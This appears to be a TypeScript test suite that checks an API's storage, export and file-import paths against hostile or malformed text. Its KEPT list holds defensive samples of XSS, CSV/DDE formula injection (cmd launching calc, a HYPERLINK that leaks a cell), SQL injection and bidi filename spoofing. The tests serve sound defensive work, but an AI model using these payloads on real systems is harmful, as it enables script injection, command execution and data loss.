import { parse } from 'csv-parse/sync';
import { writeXlsx } from 'hucre';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { FieldType } from '#domain/fields.ts';
import type { Kind } from '#domain/kind.ts';
import { partsOf } from '#domain/writing/writable.ts';
import { sql } from '#server/database/sql.ts';
import { sampleId } from '#tests/support/sampleSector.ts';
import { someOf } from '#tests/support/thorough.ts';
import { unguarded } from '#server/imports/rows/readCell.ts';
import { serveEditors, type Answered, type EditedSector } from './editors.ts';
import { leastOf, WRITTEN } from './newEntries.ts';

let sector: EditedSector;
beforeAll(async () => {
  sector = await serveEditors({ imports: true });
});
afterAll(() => sector.close());

/** Texts that are kept as they are sent. */
const KEPT: readonly (readonly [what: string, text: string])[] = [
  ['a script', '<script>alert("x")</script><img src=x onerror=alert(1)>'],
  ['a formula by =', '=HYPERLINK("http://x.test/?"&A1,"Click")'],
  ['a formula by +', "+1+cmd|' /C calc'!A0"],
  ['a formula by -', "-2+3+cmd|' /C calc'!A0"],
  ['a formula by @', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a formula in wide letters', '＝1+1'],
  ['a formula behind what is not seen', '\u200B=1+1'],
  ['an apostrophe of its own', "'quoted'"],
  ['turned letters', '\u202Egnp.exe\u202C \u2066x\u2069'],
  ['invisible letters', 'A\u200B\u00AD\u2060b\uFEFFc'],
  ['joined pictures', 'a 👩🏽‍🔬 🏳️‍🌈 z'],
  ['letters composed and not', 'é é Å Å'],
  ['many scripts', 'Zürich 量子 Ωmega שלום नमस्ते ไทย'],
  ['quotes, slashes and parameters', 'a\'b"c\\d;--%_{}$1 ${x} {{7*7}} %s %00 \\u0000'],
  ['its own query', "'); drop table organization; --"],
  ['words of JSON', '{"a":[null,true]}'],
  ['a word for nothing', 'null'],
  ['a number that looks like one', '1e5'],
  ['letters beyond the first plane', '𝒬𝓊𝒶𝓃𝓉𝓊𝓂 🜁'],
  ['what no letter is', 'a\uFFFE\uFFFFb'],
  ['control letters', 'a\u0001\u001B[31mb\u007F'],
];

/** Values that are refused under their name. */
const REFUSED: readonly (readonly [what: string, text: string])[] = [
  ['NUL', 'a\0b'],
  ['half a letter', 'a\uD800b'],
  ['the other half', '\uDC00'],
  ['more than a text holds', 'x'.repeat(60_000)],
];

const typed = (kind: Kind, ...types: readonly FieldType[]): string[] =>
  [...partsOf(kind).values()].flatMap(({ name, field, to, isList }) =>
    field && to === undefined && !isList && types.includes(field.type) ? [name] : [],
  );
const KINDS_WRITTEN = WRITTEN.filter(({ kind, path }) => path === kind.rest[0]);

const post = (path: string, body: object, query = ''): Promise<Answered> =>
  sector.as('super', 'POST', `${path}${query}`, { body: { force: true, ...body } });
type Row = Readonly<Record<string, unknown>>;
const rowIn = ({ text }: Answered): Row => JSON.parse(text) as Row;

/** The value of a field of an entry by each way of reading that has all of it. */
async function readings(kind: Kind, url: string, { id, name }: { id: string; name: string }) {
  const row = rowIn(await sector.as('super', 'GET', url));
  const query = `{ row: ${kind.name}(id: "${id}") { value: ${name} } }`;
  const { data } = rowIn(await sector.as('super', 'POST', '/graphql', { body: { query } })) as {
    data?: { row: { value: unknown } };
  };
  const list = url.replace(/[^/]+\/$/, '');
  const only = encodeURIComponent(JSON.stringify({ where: { f: 'id', op: 'eq', v: id } }));
  const lines = await sector.as('super', 'GET', `${list}?format=ndjson&q=${only}`);
  return { rest: row[name], graphql: data?.row.value, ndjson: (JSON.parse(lines.text || '{}') as Row)[name] };
}

describe.each(KINDS_WRITTEN.map(({ kind, path }) => [kind.name, kind, path.path] as const))(
  'of %s',
  (_name, kind, path) => {
    const texts = typed(kind, 'text', 'longText');

    test.each(kind.name === 'organization' ? KEPT : someOf(KEPT, 3))(
      '%s comes back as it was sent, in every text',
      async (_what, text) => {
        const values = Object.fromEntries(texts.map((name) => [name, text]));
        const made = await post(path, { ...leastOf(kind, text), ...values, approve: true });
        expect([made.status, made.text.slice(0, 400)]).toEqual([201, made.text.slice(0, 400)]);
        const url = `${path}${made.json.id}/`;
        for (const name of texts.slice(0, 2)) {
          const { rest, graphql, ndjson } = await readings(kind, url, { id: made.json.id, name });
          expect([name, rest, graphql, ndjson ?? text]).toEqual([name, text, text, text]);
        }
        const row = rowIn(await sector.as('super', 'GET', url));
        expect(texts.map((name) => [name, row[name]])).toEqual(texts.map((name) => [name, text]));
      },
    );

    test('what no text may hold is refused under the name of each', async () => {
      const wrong: unknown[] = [];
      for (const [what, text] of REFUSED) {
        // Together they are not more than a request holds.
        const sent = texts.slice(0, text.length > 1000 ? 3 : undefined);
        const values = Object.fromEntries(sent.map((name) => [name, text]));
        const { status, json } = await post(path, { ...leastOf(kind, 'Refused'), ...values }, '?dryRun=1');
        const named = Object.keys(json.errors ?? {}).toSorted();
        const isNamed = named.join() === sent.toSorted().join();
        if (status !== 422 || !isNamed) wrong.push([what, status, named]);
      }
      expect(wrong).toEqual([]);
    });

    test('numbers and days beyond all are refused under their names, or come back exactly', async () => {
      const wrong: unknown[] = [];
      const numbers = [
        '1e400',
        '-1e400',
        '1'.repeat(400),
        'NaN',
        'Infinity',
        '0x10',
        '１２',
        '1,5',
        ' ',
        '--1',
      ];
      const days = [
        '0000-00-00',
        '2024-02-30',
        '99999-01-01',
        '-0044-03-15',
        '2024-13',
        'today',
        '2024-01-01T00:00',
      ];
      const cases = [
        ...typed(kind, 'integer', 'decimal', 'money', 'year').flatMap((name) =>
          numbers.map((value) => [name, value] as const),
        ),
        ...typed(kind, 'date').flatMap((name) => days.map((value) => [name, value] as const)),
      ];
      for (const [name, value] of cases) {
        const { status, json } = await post(path, { ...leastOf(kind, 'Beyond'), [name]: value }, '?dryRun=1');
        if (status !== 422 || !json.errors?.[name]) wrong.push([name, value, status]);
      }
      expect(wrong).toEqual([]);
    });
  },
);

test.each([
  ['10^400 as a number', '1e400'],
  ['400 digits as a number', '9'.repeat(400)],
  ['a number with a tail', '1.0000000000000000000000000000000000000000000000000001'],
])('%s in JSON itself is refused by name', async (_what, number) => {
  const raw = `{"name":"Beyond","entity":"${sampleId('o', 1)}","fundingUsd":${number}}`;
  const { status, json } = await sector.as('super', 'POST', '/round/?dryRun=1', { raw });
  // A tail that no double has is gone before anybody sees it.
  expect([status, Object.keys(json.errors ?? {})]).toEqual(
    number.startsWith('1.0') ? [200, []] : [422, ['fundingUsd']],
  );
});

test('a name of a megabyte and JSON without an end are refused before they are read', async () => {
  const long = await post('/organizations/', { name: 'a'.repeat(1_000_000), entityType: ['company'] });
  expect(long.status).toBe(413);
  const deep = `{"name":"Deep","entityType":["company"],"description":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
  const answer = await sector.as('super', 'POST', '/organizations/', { raw: deep });
  expect([answer.status >= 400 && answer.status < 500, answer.text.length < 10_000]).toEqual([true, true]);
});

test('by GraphQL they are refused by name as well', async () => {
  const query = `mutation ($input: [OrganizationCreateInput!]!) { createOrganizations(input: $input, dryRun: true, force: true) { info { nodesCreated } } }`;
  for (const [what, text] of REFUSED) {
    const variables = { input: [{ name: text, city: text, entityType: ['company'] }] };
    const answer = await sector.as('super', 'POST', '/graphql', { body: { query, variables } });
    expect([what, answer.text]).toEqual([what, expect.stringContaining('"input.0.name"')]);
    expect(answer.text).toContain('"input.0.city"');
  }
});

test('no cell of a CSV begins as a formula, and what is told of it can be read back', async () => {
  const { text } = await sector.as('super', 'GET', '/organizations/?format=csv&columns=name,city&limit=999');
  const rows = parse(text, { columns: true, bom: true }) as Readonly<Record<string, string>>[];
  const cells = rows.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^[\s\p{Cf}]*[-=+@＝＋－＠]/u.test(cell))).toEqual([]);
  for (const [what, value] of KEPT) {
    expect([what, cells.some((cell) => cell === value || unguarded(cell) === value)]).toEqual([what, true]);
  }
});

const BOUNDARY = 'hostile-boundary';
async function imported(file: Buffer): Promise<{ readonly id: string; readonly bad: string }> {
  const form = Buffer.concat([
    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="rows"\r\n\r\n`),
    file,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ]);
  const sent = await sector.app.inject({
    method: 'POST',
    url: '/imports/?kind=organization',
    headers: { 'x-viewer': 'super', 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
    payload: form,
  });
  expect([sent.statusCode, sent.body.slice(0, 300)]).toEqual([201, sent.body.slice(0, 300)]);
  const { id } = sent.json<{ id: string }>();
  const url = `/imports/${id}/`;
  const settings = { source: { url: 'https://source.example/list' } };
  expect((await sector.as('super', 'PATCH', url, { body: settings })).status).toBe(200);
  expect((await sector.as('super', 'POST', `${url}run/`)).status).toBe(202);
  for (;;) {
    const { status } = rowIn(await sector.as('super', 'GET', url));
    if (status !== 'running') break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const { text } = await sector.as('super', 'GET', `${url}problems/`);
  return { id, bad: text };
}

const keptBy = async (prefix: string): Promise<ReadonlyMap<string, string>> => {
  const rows = await sector.database.query<{ name: string; description: string }>(
    sql`select name, description from organization where name like ${`${prefix} %`}`,
  );
  return new Map(rows.map(({ name, description }) => [name, description]));
};

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const named = (prefix: string, index: number): string => `${prefix} ${String(index).padStart(2, '0')}`;
const HEADS = ['Name', 'Entity type', 'Description'];
const rowsOf = (prefix: string, values: typeof KEPT): string[][] =>
  values.map(([, text], index) => [named(prefix, index), 'company', text]);

const FILES: readonly (readonly [string, (rows: string[][]) => Promise<Buffer> | Buffer])[] = [
  ['CSV', (rows) => Buffer.from([HEADS, ...rows].map((row) => row.map(quoted).join(',')).join('\n'))],
  [
    'NDJSON',
    (rows) =>
      Buffer.from(
        rows
          .map((row) => JSON.stringify(Object.fromEntries(row.map((cell, at) => [HEADS[at] ?? '', cell]))))
          .join('\n'),
      ),
  ],
  [
    'XLSX',
    async (rows) => Buffer.from(await writeXlsx({ sheets: [{ name: 'Rows', rows: [HEADS, ...rows] }] })),
  ],
];

describe.each(FILES)('a file of %s', (format, write) => {
  test('brings texts in as they are', async () => {
    const values = KEPT.filter(([, text]) => format !== 'XLSX' || !/\p{Cc}|[\uFFFE\uFFFF]/u.test(text));
    await imported(await write(rowsOf(format, values)));
    const found = await keptBy(format);
    const wrong = values.flatMap(([what, text], index) => {
      const is = found.get(named(format, index));
      // What an export put before a formula is taken away again.
      return is === text || is === text.replace(/^'(?=[-=+@])/, '') ? [] : [[what, text, is]];
    });
    expect(wrong).toEqual([]);
  });

  test('tells of each row that no text may hold, and brings nothing of it in', async () => {
    const bad = REFUSED.filter(([, text]) => format === 'NDJSON' || text.isWellFormed()).filter(
      ([, text]) => format !== 'XLSX' || !text.includes('\0'),
    );
    const told = await imported(await write(rowsOf(`Bad${format}`, bad)));
    expect(await keptBy(`Bad${format}`)).toEqual(new Map());
    expect(told.bad).toContain('Description');
    expect(told.bad.split('\n').length).toBeGreaterThan(bad.length);
  });
});
